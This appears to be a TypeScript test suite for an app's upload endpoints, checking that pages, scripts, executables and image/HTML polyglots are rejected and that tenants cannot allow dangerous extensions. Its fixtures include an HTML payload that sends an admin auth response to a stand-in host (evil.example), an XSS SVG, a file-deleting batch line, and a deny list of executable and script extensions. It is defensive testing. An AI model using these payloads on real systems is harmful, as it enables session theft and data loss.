import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FILE_EXTENSIONS, type UploadResult } from '@p8/contract/upload';
import { systemSetting, uploadFile } from '../src/db/schema/index.ts';
import { call, login, seedTenant, startTestApp, TEST_DB, type TestContext, type TestTenant } from './harness.ts';
import { pngChunk, postForm, tinyPdf, tinyPng, tinyWebp } from './office-fixtures.ts';

/*
 * Uploads as an attacker sends them: pages, scripts and programs under their own names or an image's,
 * images with a page inside or behind them, and a tenant setting that tries to open the door. Honest
 * files of every standard type must still go through.
 */

let ctx: TestContext;
let dataDir: string;
let a: TestTenant;
let b: TestTenant;
let tokenA: string;
let tokenB: string;

const HTML = Buffer.from('<html><body><script>fetch("/api/admin/auth",{credentials:"include"}).then(r=>r.text()).then(t=>new Image().src="https://evil.example/?"+t)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)]);

let jpeg: Buffer;
let gif: Buffer;
let avif: Buffer;

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), 'p8-upload-hostile-'));
  ctx = await startTestApp({ dataDir, upload: { type: 'location', domain: '', imageMaxMb: 1, fileMaxMb: 3, excelMaxMb: 2, orphanHours: 24 } });
  a = await seedTenant(ctx.database, 'HostA');
  b = await seedTenant(ctx.database, 'HostB');
  tokenA = await login(ctx.app, a.name, a.password);
  tokenB = await login(ctx.app, b.name, b.password);
  const picture = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#3366aa' } });
  jpeg = await picture().jpeg().toBuffer();
  gif = await picture().gif().toBuffer();
  avif = await picture().avif({ effort: 0 }).toBuffer();
});
afterAll(async () => {
  await ctx.close();
  await rm(dataDir, { recursive: true, force: true });
});

const upload = (route: 'img' | 'file', filename: string, content: Buffer, token = tokenA, kind?: string) =>
  postForm<UploadResult>(ctx.app, `/api/admin/upload/${route}${kind ? `?kind=${kind}` : ''}`, token, [{ name: 'file', filename, content }]);
const storedCount = async (tenantId: number) => (await ctx.database.withTenant(tenantId, (tx) => tx.select().from(uploadFile).where(eq(uploadFile.tenantId, tenantId)))).length;
const tmpFiles = async () => (existsSync(path.join(dataDir, 'uploads', '.tmp')) ? readdir(path.join(dataDir, 'uploads', '.tmp')) : []);
const saveExtensions = (token: string, uploadExtensions: unknown) => call(ctx.app, 'PUT', '/api/admin/system/setting', { token, body: { uploadExtensions } });

/** An image with something after its end: the format's own reader stops early, a page reader would not. */
const withTrailer = (image: Buffer) => Buffer.concat([image, HTML]);

describe(`hostile uploads (${TEST_DB})`, () => {
  it('refuses pages, scripts and programs on every upload route, whatever they are called', async () => {
    const before = await storedCount(a.tenantId);
    const attempts: Array<['img' | 'file', string, Buffer, string?]> = [
      ['file', 'x.html', HTML],
      ['file', 'x.htm', HTML],
      ['file', 'x.xhtml', HTML],
      ['file', 'x.svg', SVG],
      ['file', 'x.js', Buffer.from('alert(1)')],
      ['file', 'x.exe', EXE],
      ['file', 'x.bat', Buffer.from('del /q *')],
      ['file', 'x.HTML', HTML],
      ['file', 'x.pdf.html', HTML],
      ['file', 'x.html', HTML, 'attachment'],
      ['img', 'x.svg', SVG],
      ['img', 'x.html', HTML],
      // Under an allowed name: the bytes say otherwise.
      ['file', 'x.pdf', HTML],
      ['file', 'x.png', SVG],
      ['file', 'x.docx', EXE],
      ['img', 'x.jpg', HTML],
    ];
    for (const [route, name, content, kind] of attempts) {
      const res = await upload(route, name, content, tokenA, kind);
      expect(res.httpStatus, name).toBe(400);
      expect(res.body, name).toMatchObject({ status: 40001, message: 'UploadTypeNotAllowed' });
    }
    expect(await storedCount(a.tenantId)).toBe(before);
    expect(await tmpFiles()).toEqual([]);
  });

  it('refuses image/HTML polyglots: a page after a real image, or an image header in front of a page', async () => {
    const before = await storedCount(a.tenantId);
    const polyglots: Array<['img' | 'file', string, Buffer]> = [
      ['img', 'gif-header.gif', Buffer.concat([Buffer.from('GIF89a'), Buffer.from([0x2f, 0x2a, 0x0a, 0x00]), HTML])],
      ['img', 'gif-trailer.gif', withTrailer(gif)],
      ['img', 'png-trailer.png', withTrailer(tinyPng(4, 4))],
      ['file', 'png-trailer.png', withTrailer(tinyPng(4, 4))],
      ['img', 'png-header.png', Buffer.concat([tinyPng().subarray(0, 33), HTML])],
      ['img', 'png-in-idat.png', pngWithIdat(HTML)],
      ['img', 'jpeg-trailer.jpg', withTrailer(jpeg)],
      ['img', 'jpeg-header.jpg', Buffer.concat([jpeg.subarray(0, 20), HTML])],
      ['img', 'webp-trailer.webp', withTrailer(tinyWebp())],
      ['img', 'avif-trailer.avif', withTrailer(avif)],
      ['img', 'bmp-trailer.bmp', withTrailer(bmp(2, 2))],
      ['img', 'truncated.png', tinyPng(64, 64).subarray(0, 60)],
    ];
    for (const [route, name, content] of polyglots) {
      const res = await upload(route, name, content);
      expect(res.httpStatus, name).toBe(400);
      expect(res.body.message, name).toMatch(/^(UploadImageInvalid|UploadTypeNotAllowed)$/);
    }
    // The ones whose first bytes are a true image signature get past the sniffer and stop at the decoder.
    expect((await upload('img', 'gif-trailer.gif', withTrailer(gif))).body.message).toBe('UploadImageInvalid');
    expect((await upload('img', 'png-in-idat.png', pngWithIdat(HTML))).body.message).toBe('UploadImageInvalid');
    expect(await storedCount(a.tenantId)).toBe(before);
    expect(await tmpFiles()).toEqual([]);
  });

  it('accepts honest files of every standard type, served in place only when they are pictures or video', async () => {
    const honest: Array<['img' | 'file', string, Buffer, RegExp]> = [
      ['img', 'photo.jpg', jpeg, /^inline;/],
      ['img', 'photo.jpeg', jpeg, /^inline;/],
      ['img', 'anim.gif', gif, /^inline;/],
      ['img', 'pic.png', tinyPng(3, 3), /^inline;/],
      ['img', 'pic.webp', tinyWebp(), /^inline;/],
      ['img', 'pic.avif', avif, /^inline;/],
      ['img', 'pic.bmp', bmp(3, 2), /^inline;/],
      ['file', 'scan.png', tinyPng(2, 2), /^inline;/],
      ['file', 'contract.pdf', tinyPdf(), /^attachment;/],
    ];
    for (const [route, name, content, disposition] of honest) {
      const res = await upload(route, name, content);
      expect(res.body, name).toMatchObject({ status: 0, data: { name } });
      const served = await ctx.app.inject({ method: 'GET', url: res.body.data.url });
      expect(served.statusCode, name).toBe(200);
      expect(served.headers['x-content-type-options'], name).toBe('nosniff');
      expect(served.headers['content-security-policy'], name).toBe("default-src 'none'; sandbox");
      expect(served.headers['content-disposition'], name).toMatch(disposition);
      expect(served.rawPayload.equals(content), name).toBe(true);
    }
  });

  it('takes only the standard types by default; a tenant may add types, never pages, scripts or programs', async () => {
    expect((await upload('file', 'notes.txt', Buffer.from('plain notes'))).body).toMatchObject({ message: 'UploadTypeNotAllowed', additional: FILE_EXTENSIONS.join(',') });
    expect((await upload('file', 'list.csv', Buffer.from('a,b\n1,2\n'))).body.message).toBe('UploadTypeNotAllowed');

    const saved = await saveExtensions(tokenA, ['TXT', '.csv']);
    expect(saved.body.status).toBe(0);
    const settings = await call<{ uploadExtensions: string[] }>(ctx.app, 'GET', '/api/admin/system/setting', { token: tokenA });
    expect(settings.body.data.uploadExtensions).toEqual(['txt', 'csv']);

    const txt = await upload('file', 'notes.txt', Buffer.from('plain notes'));
    expect(txt.body.status).toBe(0);
    const served = await ctx.app.inject({ method: 'GET', url: txt.body.data.url });
    expect(served.headers['content-type']).toBe('application/octet-stream');
    expect(served.headers['content-disposition']).toMatch(/^attachment;/);
    expect((await upload('file', 'list.csv', Buffer.from('a,b\n1,2\n'), tokenA, 'attachment')).body.status).toBe(0);
    // An added extension still needs content that agrees with it, and widens neither images nor logos.
    expect((await upload('file', 'notes.txt', tinyPdf())).body.message).toBe('UploadTypeNotAllowed');
    expect((await upload('img', 'notes.txt', Buffer.from('x'))).body.message).toBe('UploadTypeNotAllowed');
    // Another tenant's setting is its own.
    expect((await upload('file', 'notes.txt', Buffer.from('plain notes'), tokenB)).body.message).toBe('UploadTypeNotAllowed');

    for (const denied of ['html', 'htm', 'xhtml', 'svg', 'js', 'mjs', 'exe', 'bat', 'sh', 'php', 'hta', 'xml', 'SVG', '.Html']) {
      const res = await saveExtensions(tokenA, ['zip', denied]);
      expect(res.httpStatus, denied).toBe(400);
      expect(res.body.message, denied).toBe('UploadExtensionDenied');
    }
    for (const malformed of ['', 'tar.gz', 'a b', 'x'.repeat(11), '../x']) {
      expect((await saveExtensions(tokenA, [malformed])).body.message, malformed).toBe('UploadExtensionFormatError');
    }
    expect((await call<{ uploadExtensions: string[] }>(ctx.app, 'GET', '/api/admin/system/setting', { token: tokenA })).body.data.uploadExtensions).toEqual(['txt', 'csv']);
  });

  it('never takes a denied type even when the stored setting lists it (written by hand or an older release)', async () => {
    await ctx.database.withTenant(b.tenantId, async (tx) => {
      await tx.delete(systemSetting).where(and(eq(systemSetting.tenantId, b.tenantId), eq(systemSetting.key, 'uploadExtensions')));
      await tx.insert(systemSetting).values({ tenantId: b.tenantId, key: 'uploadExtensions', value: ['html', 'svg', 'exe', 'txt'] });
    });
    for (const [name, content] of [
      ['x.html', HTML],
      ['x.svg', SVG],
      ['x.exe', EXE],
    ] as const) {
      expect((await upload('file', name, content, tokenB)).body.message, name).toBe('UploadTypeNotAllowed');
    }
  });
});

/** A PNG whose one IDAT chunk holds the given bytes (not a zlib stream: no decoder reads it as pixels). */
function pngWithIdat(data: Buffer): Buffer {
  const png = tinyPng(2, 2);
  return Buffer.concat([png.subarray(0, 8 + 25), pngChunk('IDAT', data), png.subarray(png.length - 12)]);
}

/** An uncompressed 24-bit BMP. */
function bmp(width: number, height: number): Buffer {
  const rowBytes = Math.floor((24 * width + 31) / 32) * 4;
  const pixels = rowBytes * height;
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels, 34);
  return Buffer.concat([header, Buffer.alloc(pixels, 0x40)]);
}
